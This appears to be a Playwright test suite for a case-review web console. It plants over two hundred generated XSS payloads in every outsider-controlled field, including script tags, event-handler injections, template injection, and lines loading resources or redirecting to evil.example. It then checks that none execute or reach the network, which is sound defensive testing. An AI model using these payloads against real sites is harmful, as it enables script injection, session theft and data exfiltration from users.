import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { startFakeReviewApi } from "../../support/fake-review-api.ts";
import { sampleId } from "../../support/sample-items.ts";
import { type ConsolePage, itemHash, steeringPages, toPage } from "./console-pages.ts";
import { itemMine } from "./item-mine.ts";
import { useConsole } from "./use-console.ts";

const RUN = "globalThis.pwned=1";
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "iframe srcdoc=x",
  "video src=x",
  "audio src=x",
  "details open",
  "input autofocus",
  "marquee",
  "object data=x",
];
const EVENTS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onanimationstart",
  "onpointerenter",
  "onstart",
  "onbegin",
  "onscroll",
];
const SHELLS = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `javascript:${RUN}`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<style>@import url(http://evil.example/x.css)</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<img src=http://evil.example/pixel.png>`,
  `<base href=http://evil.example/>`,
  `<form action=http://evil.example><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `]]><script>${RUN}</script>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>`,
  `=HYPERLINK("http://evil.example")`,
];

/** 200 and more in the manner of the OWASP and html5sec lists, made here. */
const payloads = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN}>`)),
  ...TAGS.flatMap((tag) => EVENTS.slice(0, 8).map((event) => `"'><${tag.toUpperCase()}/${event}="${RUN}"//`)),
  ...SHELLS,
];

const stage = useConsole();

const PLANTED = 50;

const plant = (from: number): void => {
  const stored = stage.api.samples.get(sampleId(2));
  if (stored === undefined) throw new Error("the hostile sample is missing");
  const { item, parsed } = stored;
  const batch = payloads.slice(from, from + PLANTED);
  const all = batch.join("\n");
  const one = (index: number): string => batch[index % batch.length] ?? "";
  item.summary.subject = all;
  item.summary.sender = { name: all, address: one(1) };
  item.summary.customer = all;
  item.summary.firstReason = all;
  item.review.comments = batch.map((text, index) => ({ at: item.createdAt, by: one(index + 3), text }));
  item.caseId = "case-1";
  parsed.parts = batch.map(
    (name, index) => ({ ...(parsed.parts[0] ?? { id: "0" }), id: String(index), name }) as (typeof parsed.parts)[number],
  );
  parsed.documents = parsed.documents.slice(0, 1).map((document) => ({ ...document, text: all, blocks: [] }));
  for (const field of Object.values(item.extraction?.fields ?? {})) {
    field.value = all;
    field.raw = all;
    field.provenance = { part: "0", page: null, start: 0, end: all.length, box: null };
    field.candidates = batch
      .slice(0, 5)
      .map((text) => ({ value: text, raw: text, confidence: 0.5, source: "entity", provenance: null }));
  }
  if (item.classification !== null)
    item.classification.explanation = batch.slice(0, 12).map((term) => ({ term, weight: 0.1, spans: [] }));
  if (item.decision !== null)
    item.decision.reasons = batch
      .slice(0, 5)
      .map((message, index) => ({ code: `odd_${index}`, message, field: null, data: {}, blocks: true }));
};

/** Every page that shows what outsiders wrote, beside the list and the review screen. */
const HOSTILE_PAGES: ConsolePage[] = [
  { name: "the work list", hash: "#/work", ready: "tr[data-row='0']" },
  { name: "a search by an attacker's link", hash: `#/work?q=${encodeURIComponent(`"><img src=x onerror=${RUN}>`)}`, ready: "h1" },
  { name: "filters by an attacker's link", hash: `#/work?assignee=${encodeURIComponent(`<svg onload=${RUN}>`)}`, ready: "h1" },
  ...steeringPages(`<img src=x onerror=${RUN}>`).map((place) =>
    // With planted names there is nothing to draw a matrix from.
    place.name === "learning" ? { ...place, ready: "h1" } : place,
  ),
  {
    name: "a case's timeline, remarks and history",
    hash: itemHash(1),
    ready: ".ph-timeline",
    act: async (page) => {
      for (const closed of await page.locator(".ph-history details:not([open]) > summary").all()) await closed.click();
    },
  },
  { name: "the second window", hash: `#/view/${sampleId(1)}`, ready: ".ph-viewer" },
];

/** Opens a page on which whatever asks the person something is noted. */
const openWatched = async () => {
  const opened = await stage.open();
  const dialogs: string[] = [];
  opened.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return { ...opened, dialogs };
};

/** Nothing of it ran, asked anybody, or went out. */
const expectQuiet = async (page: Page, seen: { dialogs: string[]; requests: string[]; url: string }): Promise<void> => {
  expect(await page.evaluate(() => Reflect.get(globalThis, "pwned"))).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
  expect(seen.requests.filter((url) => !url.startsWith(seen.url))).toEqual([]);
};

/** Starts of what is planted: at least one must be readable as plain text where the page shows anything of an outsider's. */
const READABLE = /globalThis\.pwned|evil\.example/;
const NOTHING_OF_OUTSIDERS = new Set(["steering", "filters by an attacker's link"]);

describe("every other page", () => {
  it.each(HOSTILE_PAGES)("shows them as text and runs none: $name", async (place) => {
    const own = await startFakeReviewApi();
    own.plant(payloads);
    const shown = own.samples.get(sampleId(1))?.parsed;
    if (shown === undefined) throw new Error("sample 1 is missing");
    shown.documents = shown.documents.map((document) => ({ ...document, text: payloads.join("\n"), blocks: [], pages: [] }));
    const { page, context, requests, dialogs } = await openWatched();

    await toPage(page, own, place);
    await page.waitForTimeout(300);
    for (let round = 0; round < 8; round += 1) await page.mouse.move(150 + round * 120, 180 + round * 60);
    const text = await page.evaluate(
      () => `${document.body.innerText} ${document.querySelector("input[type=search]")?.getAttribute("value") ?? ""}`,
    );
    const typed = await page.evaluate(() =>
      [...document.querySelectorAll("input, select")].map((one) => Reflect.get(one, "value")).join(" "),
    );

    await expectQuiet(page, { dialogs, requests, url: own.url });
    expect(NOTHING_OF_OUTSIDERS.has(place.name) || READABLE.test(`${text} ${typed}`)).toBe(true);
    await context.close();
    await own.close();
  });
});

describe("strings an outsider controls", () => {
  it("number at least two hundred", () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(200);
  });

  it.each([0, 50, 100, 150])("run nothing and ask nothing of the network in any place (payloads from %i)", async (from) => {
    plant(from);
    const { page, context, requests, dialogs } = await openWatched();

    for (const hash of ["#/work", `#/item/${sampleId(2)}`]) {
      await page.goto(`${stage.api.url}/${hash}`);
      await page.locator(hash === "#/work" ? "tr[data-row='0']" : "[data-field='address']").waitFor();
      await page.waitForTimeout(300);
    }
    await itemMine(page);
    await page.locator(".ph-category [aria-expanded]").click();
    await page.locator("#field-senderName").focus();
    await page.keyboard.press("F4");
    await page.getByRole("listbox").waitFor();
    await page.keyboard.press("Escape");
    for (let round = 0; round < 10; round += 1) await page.mouse.move(200 + round * 90, 200 + round * 40);

    await expectQuiet(page, { dialogs, requests, url: stage.api.url });
    await context.close();
  });
});
